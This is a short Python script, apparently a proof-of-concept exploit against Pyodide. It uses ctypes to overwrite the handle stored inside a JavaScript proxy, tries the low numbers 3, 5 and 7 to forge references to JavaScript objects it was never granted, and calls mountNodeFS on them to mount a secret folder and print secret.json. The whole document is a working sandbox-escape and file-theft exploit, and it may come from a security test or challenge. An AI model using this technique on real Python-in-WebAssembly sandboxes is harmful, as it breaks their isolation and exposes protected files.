"""Writes other numbers into a proxy with ctypes, and gets objects that nobody gave it."""

import ctypes
import os

from pyodide.ffi import to_js

proxy = to_js([])
size = type(proxy).__basicsize__ // 4
words = (ctypes.c_uint32 * size).from_address(id(proxy))
# Pyodide numbers what lives for ever in odd numbers from 3, and what is made later far above.
place = next(place for place in range(size - 1, 2, -1) if 0 < words[place] < 2**32 - 2)
mine = words[place]
for number in (3, 5, 7):
    words[place] = number
    try:
        folder = f"/forged{number}"
        os.makedirs(folder, exist_ok=True)
        proxy.mountNodeFS(folder, SECRET_FOLDER)
        with open(folder + "/secret.json") as file:
            print(file.read())
    except Exception as error:
        print(number, error)
    finally:
        words[place] = mine
